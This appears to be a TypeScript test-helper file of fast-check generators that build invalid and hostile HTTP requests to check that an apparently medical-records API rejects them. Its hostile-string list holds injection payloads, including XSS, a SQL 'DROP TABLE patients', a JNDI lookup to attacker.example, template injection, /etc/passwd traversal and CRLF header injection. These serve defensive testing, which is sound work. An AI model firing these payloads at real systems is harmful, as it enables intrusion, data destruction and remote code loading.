// fast-check arbitraries for hostile requests. Every body arbitrary here is built so that the
// request is invalid whatever is drawn: it starts from a valid body and applies at least one
// mutation that no schema of the contract accepts (an unknown field, a value of the wrong JSON
// type, a string longer than any limit, a number outside every range, a required field removed,
// a body that is not an object, text that is not JSON, a wrong content type, an oversized body).
import fc from 'fast-check';

export type Json = null | boolean | number | string | Json[] | { [k: string]: Json };

export interface BodyCase {
  /** The body text as sent. */
  readonly body?: string;
  /** Content-Type header; null for none. */
  readonly contentType: string | null;
  /** What was done to it, for failure messages. */
  readonly how: string;
  /** Dotted paths the mutations touched (a 400 must name one of them, or a parent). */
  readonly touched?: readonly string[];
}

/** Hostile strings: injection payloads, control and bidi characters, traversal, templates. */
export const hostileString = fc.constantFrom(
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "'; DROP TABLE patients; --",
  '{"$ne": null}',
  '${jndi:ldap://attacker.example/a}',
  '{{7*7}}',
  '../../../../etc/passwd',
  '..%2f..%2fetc%2fpasswd',
  '\u0000',
  'a\u0000b',
  '\u202eevil',
  '\ud800',
  '\uffff',
  '%00',
  '\r\nSet-Cookie: x=1',
  'constructor',
  '__proto__',
  'toString',
  '',
  ' ',
  '\t\n',
  'NaN',
  'null',
  'true',
  '1e309',
  '😀'.repeat(50),
);

/** Any string, including hostile ones. */
export const anyString = fc.oneof(fc.string({ maxLength: 40 }), fc.string({ unit: 'binary', maxLength: 40 }), hostileString);

/** Any JSON value (small). */
export const anyJson: fc.Arbitrary<Json> = fc.jsonValue({ maxDepth: 3 }) as fc.Arbitrary<Json>;

/** encodeURIComponent that also takes lone surrogates (as their UTF-8 replacement bytes). */
export function pct(s: string): string {
  try {
    return encodeURIComponent(s);
  } catch {
    return [...Buffer.from(s, 'utf8')].map((b) => `%${b.toString(16).toUpperCase().padStart(2, '0')}`).join('');
  }
}

const typeOf = (v: Json): string => (v === null ? 'null' : Array.isArray(v) ? 'array' : typeof v);

/** A JSON value whose type differs from `v`'s. */
export function otherType(v: Json): fc.Arbitrary<Json> {
  const t = typeOf(v);
  const candidates: fc.Arbitrary<Json>[] = [];
  if (t !== 'string') candidates.push(anyString);
  if (t !== 'number') candidates.push(fc.oneof(fc.integer(), fc.double({ noNaN: true, noDefaultInfinity: true }), fc.constantFrom(0, -1, 1e308, -0)));
  if (t !== 'boolean') candidates.push(fc.boolean());
  if (t !== 'null') candidates.push(fc.constant(null));
  if (t !== 'array') candidates.push(fc.array(anyJson, { maxLength: 4 }));
  if (t !== 'object') candidates.push(fc.dictionary(fc.string({ maxLength: 8 }), anyJson, { maxKeys: 3 }) as fc.Arbitrary<Json>);
  return fc.oneof(...candidates);
}

type Path = readonly (string | number)[];

/** Every path to a value inside `v` (not the root). */
export function paths(v: Json, prefix: Path = []): Path[] {
  if (v === null || typeof v !== 'object') return [];
  const out: Path[] = [];
  const entries: [string | number, Json][] = Array.isArray(v) ? v.map((x, i) => [i, x]) : Object.entries(v);
  for (const [k, x] of entries) {
    out.push([...prefix, k]);
    out.push(...paths(x, [...prefix, k]));
  }
  return out;
}

/** Object paths inside `v` (root included): where an unknown key may be added. */
function objectPaths(v: Json, prefix: Path = []): Path[] {
  if (v === null || typeof v !== 'object') return [];
  const out: Path[] = Array.isArray(v) ? [] : [prefix];
  const entries: [string | number, Json][] = Array.isArray(v) ? v.map((x, i) => [i, x]) : Object.entries(v);
  for (const [k, x] of entries) out.push(...objectPaths(x, [...prefix, k]));
  return out;
}

const get = (v: Json, p: Path): Json => p.reduce<Json>((acc, k) => (acc as Record<string | number, Json>)[k] as Json, v);
function set(v: Json, p: Path, value: Json | undefined): Json {
  // A JSON round trip, not structuredClone: keys such as "__proto__" stay own properties.
  const copy = JSON.parse(JSON.stringify(v)) as Json;
  const parent = get(copy, p.slice(0, -1)) as Record<string | number, Json>;
  const key = p[p.length - 1] as string | number;
  if (value === undefined) {
    if (Array.isArray(parent)) parent.splice(key as number, 1);
    else delete parent[key];
  } else Object.defineProperty(parent, key, { value, enumerable: true, writable: true, configurable: true });
  return copy;
}
const startsWith = (p: Path, q: Path) => q.length <= p.length && q.every((k, i) => p[i] === k);

type Mutation = { readonly apply: (v: Json) => Json; readonly how: string; readonly touches: Path };

export interface BodySpec {
  /** A valid body (the arbitrary never sends it as is). */
  readonly valid: Json;
  /** Top-level or nested paths that are always required. */
  readonly required: readonly Path[];
  /** Paths whose array may legally be empty or shorter (no element removal there). */
  readonly noRemoveInside?: readonly Path[];
}

/** One mutation that by itself makes `spec.valid` invalid. */
function mutationOf(spec: BodySpec): fc.Arbitrary<Mutation> {
  const all = paths(spec.valid);
  const leafs = all.filter((p) => {
    const v = get(spec.valid, p);
    return v === null || typeof v !== 'object';
  });
  const strings = leafs.filter((p) => typeof get(spec.valid, p) === 'string');
  const numbers = leafs.filter((p) => typeof get(spec.valid, p) === 'number');
  const options: fc.Arbitrary<Mutation>[] = [];
  options.push(
    // An unknown field, at the top or in a nested object (every object of the contract is strict).
    fc.tuple(fc.constantFrom(...objectPaths(spec.valid)), fc.oneof(anyString, fc.constantFrom('__proto__', 'constructor', 'prototype', 'isAdmin', 'role', 'stage ')), anyJson).map(
      ([p, k, x]) => {
        const key = Object.prototype.hasOwnProperty.call(get(spec.valid, p), k) || k === '' ? `${k}_unknown` : k;
        return { apply: (v: Json) => set(v, [...p, key], x), how: `unknown field ${JSON.stringify([...p, key].join('.'))}`, touches: [...p, key] };
      },
    ),
  );
  if (all.length) {
    // A value of the wrong JSON type (no coercion anywhere in a body).
    options.push(
      fc.constantFrom(...all).chain((p) => otherType(get(spec.valid, p)).map((x) => ({ apply: (v: Json) => set(v, p, x), how: `wrong type at ${p.join('.')}: ${JSON.stringify(x)?.slice(0, 60)}`, touches: p }))),
    );
  }
  // A string longer than any limit of the contract (the longest is 4000).
  if (strings.length) {
    options.push(
      fc.tuple(fc.constantFrom(...strings), fc.integer({ min: 4001, max: 20_000 }), fc.constantFrom('x', 'é', '😀', '<')).map(([p, n, c]) => ({
        apply: (v: Json) => set(v, p, c.repeat(n)),
        how: `${n} x ${JSON.stringify(c)} at ${p.join('.')}`,
        touches: p,
      })),
    );
  }
  // A number outside every range of the contract.
  if (numbers.length) {
    options.push(
      fc.tuple(fc.constantFrom(...numbers), fc.oneof(fc.constantFrom(-1, -0.5, 1e6, 1e308, -1e308, 100.5), fc.integer({ min: 1000, max: 2 ** 31 }))).map(([p, x]) => ({
        apply: (v: Json) => set(v, p, x),
        how: `${x} at ${p.join('.')}`,
        touches: p,
      })),
    );
  }
  if (spec.required.length) {
    options.push(fc.constantFrom(...spec.required).map((p) => ({ apply: (v: Json) => set(v, p, undefined), how: `without ${p.join('.')}`, touches: p })));
  }
  return fc.oneof(...options);
}

/** One to three mutations on distinct paths, each enough alone to make the body invalid. */
export function invalidBody(spec: BodySpec): fc.Arbitrary<{ value: Json; how: string; touched: string[] }> {
  return fc.array(mutationOf(spec), { minLength: 1, maxLength: 3 }).map((ms) => {
    const chosen: Mutation[] = [];
    for (const m of ms) if (!chosen.some((c) => startsWith(m.touches, c.touches) || startsWith(c.touches, m.touches))) chosen.push(m);
    let value = spec.valid;
    for (const m of chosen) value = m.apply(value);
    return { value, how: chosen.map((m) => m.how).join('; '), touched: chosen.map((m) => m.touches.join('.')) };
  });
}

/** Text that is not JSON (checked), built from a valid body or from scratch. */
export function notJson(valid: Json): fc.Arbitrary<string> {
  const text = JSON.stringify(valid);
  return fc
    .oneof(
      fc.nat({ max: Math.max(0, text.length - 2) }).map((n) => text.slice(0, n + 1)), // truncated
      fc.constant(text.replace(/}$/, ',}')), // trailing comma
      fc.constant(text.replaceAll('"', "'")), // single quotes
      fc.constant(`\ufeff${text}`), // byte-order mark
      fc.constant(`${text} trailing`), // garbage after the value
      fc.constant(`/* c */${text}`), // a comment
      fc.constant(`${text}${text}`), // two values
      fc.constantFrom('NaN', 'undefined', '{a:1}', "{'a':1}", '[1,]', '{"a":01}', '{"a":.5}', '{"a":+1}', '{"a":"\\x41"}', '{"a":Infinity}', '\u0000', '{', '}', '"', '{"a":"b}', '[[[[[['),
      fc.string({ maxLength: 60 }),
      fc.constant('['.repeat(20_000) + ']'.repeat(20_000)).map((s) => `${s}x`),
    )
    .filter((s) => {
      if (s.trim() === '') return false; // an empty body is its own case
      try {
        JSON.parse(s);
        return false;
      } catch {
        return true;
      }
    });
}

/** Valid JSON that is not an object. */
export const notAnObject = fc.oneof(
  fc.array(anyJson, { maxLength: 3 }),
  fc.integer(),
  fc.double({ noNaN: true, noDefaultInfinity: true }),
  fc.boolean(),
  fc.constant(null),
  anyString,
) as fc.Arbitrary<Json>;

/** Content types other than application/json (with or without parameters). */
export const wrongContentType = fc.constantFrom(
  'text/plain',
  'text/json',
  'application/x-www-form-urlencoded',
  'multipart/form-data; boundary=x',
  'application/xml',
  'application/jsonp',
  'application/json-patch+json',
  'application/jsonx; charset=utf-8',
  'application/javascript',
  'json',
  '*/*',
  'application/ json',
);

/**
 * Every kind of refused body for one endpoint. `allowEmpty`: whether an empty body is a
 * refusal there (resume treats an absent body as {}).
 */
export function refusedBody(spec: BodySpec, opts: { allowEmpty?: boolean } = {}): fc.Arbitrary<BodyCase> {
  const json = 'application/json';
  const cases: [number, fc.Arbitrary<BodyCase>][] = [
    [10, invalidBody(spec).map(({ value, how, touched }) => ({ body: JSON.stringify(value), contentType: json, how, touched }))],
    [2, notJson(spec.valid).map((text) => ({ body: text, contentType: json, how: `not JSON: ${text.slice(0, 40)}` }))],
    [2, notAnObject.map((v) => ({ body: JSON.stringify(v), contentType: json, how: `not an object: ${JSON.stringify(v).slice(0, 40)}` }))],
    // The valid body, sent as something else: refused for its type alone.
    [1, wrongContentType.map((ct) => ({ body: JSON.stringify(spec.valid), contentType: ct, how: `content-type ${ct}` }))],
    [1, fc.constant({ body: JSON.stringify(spec.valid), contentType: null, how: 'no content-type' })],
    // Over the 64 KiB limit, valid otherwise.
    [
      1,
      fc.integer({ min: 65_537, max: 200_000 }).map((n) => {
        const text = JSON.stringify(spec.valid);
        const pad = JSON.stringify({ ...(spec.valid as object), padding: 'x'.repeat(Math.max(0, n - text.length)) });
        return { body: pad, contentType: json, how: `${pad.length} bytes` };
      }),
    ],
    [1, fc.constantFrom(' ', '\n\t ').map((b) => ({ body: b, contentType: json, how: 'blank body' }))],
  ];
  if (opts.allowEmpty !== false) cases.push([1, fc.constant({ contentType: json, how: 'no body' })]);
  return fc.oneof(...cases.map(([weight, arbitrary]) => ({ weight, arbitrary })));
}

/** Path segments that name no patient: junk, encodings, traversal, overlong, near-ULIDs. */
export const junkId = fc.oneof(
  anyString.filter((s) => s.length > 0).map(pct),
  fc.constantFrom('%E0%A4%A', '%FF', '%', '%%', '%C0%AE%C0%AE', '%2e%2e', '..%2F..%2Faudit', '%00', '%0d%0a', 'null', 'undefined', '0', '-1', '%20'),
  fc.stringMatching(/^[0-9A-HJKMNP-TV-Z]{26}$/), // a well-formed ULID that is nobody
  fc.stringMatching(/^[0-9a-z]{26}$/), // lower case
  fc.stringMatching(/^[0-9A-Z]{25}$/),
  fc.stringMatching(/^[0-9A-Z]{27}$/),
  fc.integer({ min: 100, max: 6000 }).map((n) => 'A'.repeat(n)),
  fc.integer({ min: 100, max: 2000 }).map((n) => '%41'.repeat(n)),
);

/** A query string of junk and near-valid parameters; keys may repeat. */
export function junkQuery(keys: readonly string[], valid: Record<string, fc.Arbitrary<string>>): fc.Arbitrary<string> {
  const value = (k: string) => fc.oneof(...(valid[k] ? [valid[k] as fc.Arbitrary<string>] : []), anyString, fc.constantFrom('', ' ', '0', '-1', '1e2', '1.5', '201', 'true', 'NaN', '2024-13', '9999-99', '0000-00', '2024-02-30', '275760-09-13'));
  const param = fc.oneof(
    fc.constantFrom(...keys).chain((k) => value(k).map((v) => [k, v] as const)),
    fc.tuple(anyString, anyString),
  );
  return fc.array(param, { minLength: 1, maxLength: 5 }).map((ps) => ps.map(([k, v]) => `${pct(k)}=${pct(v)}`).join('&'));
}

/** A page token that decodes (base64url JSON) but was never issued: odd partitions and start keys. */
export const craftedCursor = fc
  .record({
    p: fc.oneof(fc.integer({ min: -5, max: 100 }), fc.constant(0), anyJson),
    k: fc.oneof(
      fc.constant(undefined),
      anyJson,
      fc.record({ PK: anyString, SK: anyString }),
      fc.record({ PK: anyString, SK: anyString, GSI1PK: anyString, GSI1SK: anyString }),
      fc.record({ PK: fc.constant({ S: 'x' }), SK: fc.constant(1) }),
    ),
  })
  .map((c) => Buffer.from(JSON.stringify(c)).toString('base64url'));
